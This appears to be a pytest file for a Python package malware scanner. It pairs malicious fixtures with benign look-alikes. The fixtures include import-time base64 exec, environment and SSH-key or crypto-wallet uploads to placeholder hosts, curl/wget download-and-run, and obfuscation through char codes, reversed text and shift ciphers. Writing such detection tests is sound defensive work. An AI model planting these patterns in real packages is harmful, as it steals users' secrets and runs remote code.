"""Round 9's fresh malware variants, spelled unlike the corpus, each beside a benign twin.

Every malicious fixture must make its package high or critical with the threat named for it;
every twin (how a popular library does the similar thing) must stay below high. Addresses are
TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

import pytest

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan

B64_ID = "'aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='"  # import os;os.system('id')
RUNNER = "import base64\n\n\ndef run(k):\n    exec(base64.b64decode(k))\n    return 1\n"

# ---------------------------------------------------------------- calls into another module
# A function of another module of the package, called while __init__ loads, however the call
# is wrapped: its body runs on import.
CROSS_MODULE_CALLS = {
    "try/except around the call": (
        f"from .b import run\ntry:\n    run({B64_ID})\nexcept Exception:\n    pass\n"
    ),
    "result bound to a name": f"from .b import run\n_ok = run({B64_ID})\n",
    "under a platform test": (
        f"import sys\nfrom .b import run\nif sys.platform != 'x':\n    run({B64_ID})\n"
    ),
    "in a class body": f"from .b import run\n\n\nclass C:\n    x = run({B64_ID})\n",
    "through the module": f"from . import b\nb.run({B64_ID})\n",
    "under an alias": f"from .b import run as _r\n_r({B64_ID})\n",
    "in a with block": (
        f"import contextlib\nfrom .b import run\nwith contextlib.suppress(Exception):\n"
        f"    run({B64_ID})\n"
    ),
}


@pytest.mark.parametrize("name", sorted(CROSS_MODULE_CALLS))
def test_a_payload_function_of_another_module_called_while_loading_is_import_time(name, tmp_path):
    files = {"pkg/__init__.py": CROSS_MODULE_CALLS[name], "pkg/b.py": RUNNER}
    assert_high_with(name, scan(files, tmp_path), {"chain.decode_exec"})


def test_a_stealer_split_over_modules_and_called_in_try_is_exfiltration(tmp_path):
    files = {
        "pkg/__init__.py": "from .c import ping\ntry:\n    ping()\nexcept Exception:\n    pass\n",
        "pkg/c.py": (
            "import os\nimport requests\n\n\ndef ping():\n"
            "    requests.post('http://198.51.100.2/x', json=dict(os.environ))\n"
        ),
    }
    assert_high_with("split stealer", scan(files, tmp_path), {"chain.exfiltration"})


# Twins: the same function imported but called only where nothing runs on load.
NOT_ON_LOAD = {
    "inside a function": "from .b import run\n\n\ndef helper(k):\n    return run(k)\n",
    "inside a method": (
        "from .b import run\n\n\nclass C:\n    def go(self, k):\n        if k:\n"
        "            return run(k)\n"
    ),
    "under the main guard": "from .b import run\nif __name__ == '__main__':\n    run(input())\n",
    "in a lambda": "from .b import run\nHANDLERS = {'b64': lambda k: run(k)}\n",
    # a usage example at column 0 of a docstring is text, not a call
    "in a docstring's example": (
        'from .b import run\n\n\ndef helper(k):\n    """Decode k.\n\nExample:\n\n'
        'run(k)\n"""\n    return run(k)\n'
    ),
    # the ") -> None:" closing a signature written over lines opens no block of its own
    "under a signature over several lines": (
        "from .b import run\n\n\ndef helper(\n    k: str,\n) -> None:\n    run(k)\n"
    ),
}


@pytest.mark.parametrize("name", sorted(NOT_ON_LOAD))
def test_an_imported_function_called_only_later_stays_a_library_feature(name, tmp_path):
    files = {"pkg/__init__.py": NOT_ON_LOAD[name], "pkg/b.py": RUNNER}
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, (name, [t.id for t in result.threats])


def test_a_version_helper_called_on_import_is_no_threat(tmp_path):
    """``__version__ = get_version()`` running ``git describe`` is how setuptools_scm-less
    projects stamp a version: on load, and harmless."""
    files = {
        "pkg/__init__.py": "from ._version import get_version\n__version__ = get_version()\n",
        "pkg/_version.py": (
            "import subprocess\n\n\ndef get_version():\n    try:\n"
            "        out = subprocess.run(['git', 'describe', '--tags'], capture_output=True)\n"
            "        return out.stdout.decode().strip()\n    except OSError:\n"
            "        return '0.0.0'\n"
        ),
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


def test_a_telemetry_ping_called_only_by_a_helper_stays_low(tmp_path):
    files = {
        "pkg/__init__.py": "from .c import ping\n\n\ndef helper():\n    ping()\n",
        "pkg/c.py": (
            "import requests\n\n\ndef ping():\n"
            "    requests.post('https://telemetry.example.invalid/x', json={'v': 1})\n"
        ),
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


# ---------------------------------------------------------------- curl/wget as the downloader
def test_curl_saving_a_file_that_is_then_started_is_download_execute(tmp_path):
    files = {
        "pkg/__init__.py": (
            "import os\nimport subprocess\n"
            "p = os.path.join(os.environ['TEMP'], 'a.exe')\n"
            "subprocess.run(['curl', '-s', '-o', p, 'http://192.0.2.5/a.exe'])\n"
            "os.startfile(p)\n"
        )
    }
    assert_high_with("curl -o then startfile", scan(files, tmp_path), {"chain.download_execute"})


def test_wget_with_combined_flags_then_chmod_and_run_is_download_execute(tmp_path):
    files = {
        "pkg/__init__.py": (
            "import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c',\n"
            "           'wget -qO /tmp/.x http://192.0.2.5/x && chmod +x /tmp/.x && /tmp/.x')\n"
        )
    }
    assert_high_with("wget -qO", scan(files, tmp_path), {"chain.download_execute"})


def test_curl_combined_output_flag_in_a_shell_script_is_download_execute(tmp_path):
    files = {
        "setup.py": "from setuptools import setup\nsetup(name='pkg', version='1.0')\n",
        "install.sh": "#!/bin/sh\ncurl -fsSLo /tmp/agent http://198.51.100.8/agent; ./agent\n",
    }
    result = scan(files, tmp_path)
    assert any(f.rule == "pat.curl_exec_file" for f in result.findings), result.findings


def test_curl_fetching_an_archive_unpacked_by_tar_is_no_download_execute(tmp_path):
    """A build helper that curls a source archive and unpacks it with tar runs no download."""
    files = {
        "pkg/__init__.py": "",
        "pkg/fetch.py": (
            "import subprocess\n\n\ndef fetch(dest):\n"
            "    subprocess.run(['curl', '-sSLo', dest, 'https://example.invalid/src.tar.gz'])\n"
            "    subprocess.run(['tar', 'xzf', dest])\n"
        ),
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]
    assert not any(t.id == "chain.download_execute" for t in result.threats)


# ---------------------------------------------------------------- lambdas called in place
LAMBDAS_IN_PLACE = {
    "one lambda": f"import base64\n(lambda _y: exec(_y))(base64.b64decode({B64_ID}))\n",
    "two nested": (
        f"(lambda _x: (lambda _y: exec(_y))(_x))(__import__('base64').b64decode({B64_ID}))\n"
    ),
    "a default argument": f"import base64\n(lambda c=base64.b64decode({B64_ID}): exec(c))()\n",
    "decoder and runner as two parameters": (
        f"import base64\n(lambda d, r: r(d({B64_ID})))(base64.b64decode, exec)\n"
    ),
}


@pytest.mark.parametrize("name", sorted(LAMBDAS_IN_PLACE))
def test_a_lambda_called_in_place_on_decoded_data_is_decode_exec(name, tmp_path):
    files = {"pkg/__init__.py": LAMBDAS_IN_PLACE[name]}
    assert_high_with(name, scan(files, tmp_path), {"chain.decode_exec"})


def test_lambdas_called_in_place_on_ordinary_values_stay_quiet(tmp_path):
    files = {
        "pkg/__init__.py": (
            "__version__ = '1.2.3'\n"
            "VERSION = (lambda v: tuple(int(p) for p in v.split('.')))(__version__)\n"
            "(lambda src: exec(src, globals()))('x = 1\\ny = x + 1\\n')\n"
            "ORDER = (lambda *a: sorted(a))(3, 1, 2)\n"
        )
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


# ---------------------------------------------------------------- strings built from char codes
def test_pip_spelled_with_map_of_chr_pulls_a_package_at_install(tmp_path):
    """The typosquat campaign's setup.py: every name built by map(chr) over integers, chr
    itself fetched with getattr from the builtins, then pip.main at install time."""
    files = {
        "setup.py": (
            "from setuptools import setup\n"
            "c = getattr(__builtins__, 'c' + 'h' + 'r')\n"
            "x = ''.join(map(c, [112 + 0, 105, 112]))\n"
            "y = __import__(x)\n"
            "y.main(['install', ''.join(map(c, [101, 118, 105, 108]))])\n"
            "setup(name='pkg', version='1.0')\n"
        )
    }
    assert_high_with("map(chr) pip", scan(files, tmp_path), {"place.dependency_pull"})


def test_text_reversed_by_reversed_and_joined_is_decoded_before_exec(tmp_path):
    files = {
        "pkg/__init__.py": (
            "exec(''.join(reversed(\")'hs|x/3.2.0.291//:ptth lruc'(metsys.so;so tropmi\")))\n"
        )
    }
    assert_high_with("reversed join", scan(files, tmp_path), {"chain.decode_exec"})


def test_char_codes_and_reversed_text_of_ordinary_code_stay_quiet(tmp_path):
    files = {
        "pkg/__init__.py": (
            "LETTERS = ''.join(map(chr, [65, 66, 67, 68]))\n"
            "def is_palindrome(word):\n    return word == ''.join(reversed(word))\n"
            "MIRROR = ''.join(reversed('abc'))\n"
        )
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


# ---------------------------------------------------------------- payloads kept in a class
def test_a_payload_and_its_runner_kept_as_class_attributes_is_decode_exec(tmp_path):
    files = {
        "pkg/__init__.py": (
            "import base64\n\n\nclass _Cfg:\n"
            f"    data = {B64_ID}\n    runner = exec\n\n\n"
            "_Cfg.runner(base64.b64decode(_Cfg.data))\n"
        )
    }
    assert_high_with("class attributes", scan(files, tmp_path), {"chain.decode_exec"})


def test_settings_kept_as_class_attributes_stay_quiet(tmp_path):
    files = {
        "pkg/__init__.py": (
            "import requests\n\n\nclass Config:\n"
            "    URL = 'https://api.example.invalid/v1'\n    log = print\n\n\n"
            "def ping():\n    Config.log('ping')\n    return requests.get(Config.URL).ok\n"
        )
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


# ---------------------------------------------------------------- the environment in a URL
def test_the_whole_environment_in_a_query_string_is_exfiltration(tmp_path):
    files = {
        "pkg/__init__.py": (
            "import os\nimport urllib.parse\nimport urllib.request\n"
            "urllib.request.urlopen('http://log.example.invalid/c?' + "
            "urllib.parse.urlencode(dict(os.environ)))\n"
        )
    }
    assert_high_with("env in query", scan(files, tmp_path), {"chain.exfiltration"})


def test_one_variable_in_an_sdk_base_url_is_no_exfiltration(tmp_path):
    files = {
        "pkg/__init__.py": "",
        "pkg/client.py": (
            "import os\nimport requests\n\n\ndef users():\n"
            "    base = os.environ.get('API_URL', 'https://api.example.invalid')\n"
            "    requests.get(os.environ['API_URL'] + '/v1/users')\n"
            "    return requests.get(f\"{base}/v1/users?region={os.getenv('REGION')}\").json()\n"
        ),
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


# ---------------------------------------------------------------- secrets handed to a client
def test_curl_uploading_an_ssh_key_is_exfiltration(tmp_path):
    files = {
        "pkg/__init__.py": (
            "import os\nimport subprocess\n"
            "subprocess.run(['curl', '-s', '-F', 'f=@' + os.path.expanduser('~/.ssh/id_rsa'),"
            " 'https://up.example.invalid/u'])\n"
        )
    }
    assert_high_with("curl -F @key", scan(files, tmp_path), {"chain.exfiltration"})


def test_a_wallet_folder_archived_and_posted_is_exfiltration(tmp_path):
    files = {
        "pkg/__init__.py": (
            "import os\nimport shutil\nimport requests\n"
            "w = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\n"
            "shutil.make_archive('/tmp/e', 'zip', w)\n"
            "requests.post('https://collect.example.invalid/w', files={'f': open('/tmp/e.zip', 'rb')})\n"
        )
    }
    assert_high_with("wallet archive", scan(files, tmp_path), {"chain.exfiltration"})


def test_a_deploy_helper_logging_in_with_an_ssh_key_is_no_exfiltration(tmp_path):
    """scp and rsync take an identity file to log in; archiving the project is a backup."""
    files = {
        "pkg/__init__.py": "",
        "pkg/deploy.py": (
            "import os\nimport shutil\nimport subprocess\n\n\ndef deploy(host):\n"
            "    shutil.make_archive('dist/site', 'zip', 'build')\n"
            "    key = os.path.expanduser('~/.ssh/deploy_key')\n"
            "    subprocess.run(['scp', '-i', key, 'dist/site.zip', host + ':/srv'])\n"
            "    subprocess.run(['rsync', '-e', 'ssh -i ' + key, 'build/', host + ':/srv'])\n"
            "    subprocess.run(['curl', '-fsS', 'https://status.example.invalid/ok'])\n"
        ),
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


# ---------------------------------------------------------------- a module's own decoder
KEYED_SHIFT = (
    "import importlib\n\n\ndef _k(s, k=7):\n    return ''.join(chr((ord(c) - k) % 256) for c in s)\n\n\n"
    "m = importlib.import_module(_k('z|iwyvjlzz'))\n"  # subprocess
    "getattr(m, _k('Wvwlu'))(_k(\"j|ys'4z'o{{wA668@957595<6\\x7f'\\x83'zo\"), shell=True)\n"
)


def test_names_hidden_by_a_keyed_shift_function_of_the_module_are_read(tmp_path):
    """A one-line decoder defined in the module and applied to short literals (a module name,
    an attribute, a command): folded as if written inline, so the curl | sh it hides shows."""
    result = scan({"pkg/__init__.py": KEYED_SHIFT}, tmp_path)
    assert_high_with("keyed shift", result, {"chain.download_execute", "disguise.obfuscation"})
    assert any(f.rule == "pat.curl_pipe_shell" for f in result.findings)


def test_a_module_path_helper_of_a_lazy_loader_stays_quiet(tmp_path):
    files = {
        "pkg/__init__.py": (
            "import importlib\n\n\ndef _fullname(name):\n    'The plugin module for name.'\n"
            "    return 'pkg.plugins.' + name\n\n\n"
            "def checksum(s):\n    return sum(ord(c) for c in s) % 256\n\n\n"
            "def load(name):\n    return importlib.import_module(_fullname(name))\n\n\n"
            "JSON = importlib.import_module(_fullname('json'))\nSUM = checksum('abc')\n"
        ),
        "pkg/plugins/__init__.py": "",
        "pkg/plugins/json.py": "import json\ndumps = json.dumps\n",
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


# ---------------------------------------------------------------- staged in a file, then sent
def test_the_environment_staged_in_a_file_then_uploaded_is_exfiltration(tmp_path):
    files = {
        "pkg/__init__.py": (
            "import json\nimport os\nimport tempfile\nimport requests\n"
            "p = os.path.join(tempfile.gettempdir(), 'e.json')\n"
            "json.dump(dict(os.environ), open(p, 'w'))\n"
            "requests.post('https://collect.example.invalid/e', files={'f': open(p, 'rb')})\n"
        )
    }
    assert_high_with("staged env", scan(files, tmp_path), {"chain.exfiltration"})


def test_a_crash_report_written_then_uploaded_is_no_exfiltration(tmp_path):
    files = {
        "pkg/__init__.py": "",
        "pkg/report.py": (
            "import json\nimport os\nimport tempfile\nimport requests\n\n\n"
            "def report(exc, version):\n"
            "    p = os.path.join(tempfile.gettempdir(), 'crash.json')\n"
            "    with open(p, 'w') as fh:\n"
            "        json.dump({'error': str(exc), 'version': version,"
            " 'home': os.environ.get('HOME')}, fh)\n"
            "    requests.post('https://reports.example.invalid/r', files={'f': open(p, 'rb')})\n"
        ),
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]


def test_a_decorator_of_another_module_runs_when_the_module_loads(tmp_path):
    files = {
        "pkg/__init__.py": "from .reg import register\n\n\n@register('x')\ndef handler():\n    pass\n",
        "pkg/reg.py": (
            "import os\nimport requests\n\n\ndef register(name):\n"
            "    requests.get('https://stats.example.invalid/r', params={'u': os.getlogin()})\n"
            "    return lambda f: f\n"
        ),
    }
    assert_high_with("decorator", scan(files, tmp_path), {"place.import_time"})


def test_a_registry_decorator_of_another_module_stays_quiet(tmp_path):
    files = {
        "pkg/__init__.py": (
            "from .reg import register\n\n\n@register('add')\ndef add(a, b):\n    return a + b\n"
        ),
        "pkg/reg.py": (
            "OPS = {}\n\n\ndef register(name):\n    def deco(f):\n        OPS[name] = f\n"
            "        return f\n\n    return deco\n"
        ),
    }
    result = scan(files, tmp_path)
    assert result.risk.level not in HIGH, [t.id for t in result.threats]
